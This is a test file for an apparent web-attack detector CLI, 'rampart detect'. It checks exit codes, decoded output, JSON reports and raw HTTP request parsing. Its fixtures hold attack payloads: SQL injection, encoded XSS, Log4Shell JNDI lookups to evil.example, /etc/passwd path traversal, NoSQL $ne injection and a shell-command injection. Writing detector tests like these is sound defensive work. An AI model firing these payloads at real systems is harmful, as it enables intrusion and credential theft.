// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are literal `${…}` lookups.
// `rampart detect` run in-process: verdicts as exit codes, decoded forms, JSON output, raw requests.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { runCliInProcess } from './helpers/cli.ts';

const dir = mkdtempSync(join(tmpdir(), 'rampart-detect-cli-'));
describe('detect-cli', () => {
  after(() => rmSync(dir, { recursive: true, force: true }));

  /** Runs `rampart detect` with `stdin` piped in. */
  function withStdin(args: readonly string[], stdin: string) {
    return runCliInProcess(['detect', ...args], { stdin });
  }

  interface Report {
    score: number;
    blocked: boolean;
    paranoia: number;
    inputs: { location: string; kind: string; raw: string; decoded: string }[];
    findings: { rule: string; category: string; location: string; excerpt: string }[];
  }

  describe('rampart detect', () => {
    test('exits 1 on an attack given as an argument and names the rule', async () => {
      const { code, stdout } = await runCliInProcess(['detect', "1' UNION SELECT password FROM users--"]);
      assert.equal(code, 1);
      assert.match(stdout, /sqli\.union/);
    });

    test('exits 0 on a benign value that looks dangerous', async () => {
      const { code, stdout } = await runCliInProcess(['detect', "O'Brien selected a table from the catalog"]);
      assert.equal(code, 0);
      assert.match(stdout, /findings: none|clean/);
    });

    test('prints the decoded form and the findings as JSON', async () => {
      const { code, stdout } = await runCliInProcess([
        'detect',
        '--json',
        '%253Cscript%253Ealert(1)%253C%252Fscript%253E',
      ]);
      assert.equal(code, 1);
      const report = JSON.parse(stdout) as Report;
      assert.equal(report.blocked, true);
      assert.equal(report.inputs[0]?.decoded, '<script>alert(1)</script>');
      assert.ok(report.findings.some((f) => f.rule === 'xss.script-tag' && f.location === 'input'));
      assert.ok(report.score >= 5);
    });

    test('reads the value from standard input when none is given', async () => {
      const attack = await withStdin(['--json'], '${${lower:j}ndi:ldap://evil.example/a}\n');
      assert.equal(attack.code, 1);
      assert.equal(
        (JSON.parse(attack.stdout) as Report).inputs[0]?.raw,
        '${${lower:j}ndi:ldap://evil.example/a}',
      );
      const clean = await withStdin([], 'just a sentence\n');
      assert.equal(clean.code, 0);
    });

    test('paranoia and threshold decide the verdict on a weak finding', async () => {
      const value = 'a; ls -la';
      assert.equal((await runCliInProcess(['detect', '--threshold', '2', value])).code, 0);
      assert.equal((await runCliInProcess(['detect', '--threshold', '2', '--paranoia', '2', value])).code, 1);
    });

    test('inspects a raw HTTP request from a file: path, query, headers, cookies and body', async () => {
      const file = join(dir, 'request.http');
      writeFileSync(
        file,
        [
          'POST /files/..%2f..%2fetc/passwd?id=1 HTTP/1.1',
          'Host: api.example',
          'User-Agent: ${jndi:ldap://evil.example/a}',
          'Cookie: sid=abc; pref=light',
          'Content-Type: application/json',
          '',
          '{"user":"admin","password":{"$ne":null}}',
        ].join('\r\n'),
      );
      const { code, stdout } = await runCliInProcess(['detect', '--json', '--request', file]);
      assert.equal(code, 1);
      const report = JSON.parse(stdout) as Report;
      const locations = new Set(report.findings.map((f) => f.location));
      for (const where of ['path', 'header.user-agent', 'body.password.$ne'])
        assert.ok(locations.has(where), where);
      assert.ok(report.inputs.some((i) => i.location === 'cookie.pref' && i.raw === 'light'));
    });

    test('a clean raw request exits 0', async () => {
      const { code } = await withStdin(
        ['--request'],
        'GET /users/42?sort=name&q=Renée%20O%27Brien HTTP/1.1\nHost: api.example\nUser-Agent: curl/8.5\n\n',
      );
      assert.equal(code, 0);
    });

    test('exits 2 on a usage error, never 1', async () => {
      assert.equal((await runCliInProcess(['detect', '--paranoia', '7', 'x'])).code, 2);
      assert.equal((await runCliInProcess(['detect', '--request', join(dir, 'missing.http')])).code, 2);
      assert.equal((await runCliInProcess(['detect', '--kind', 'nope', 'x'])).code, 2);
    });
  });
});
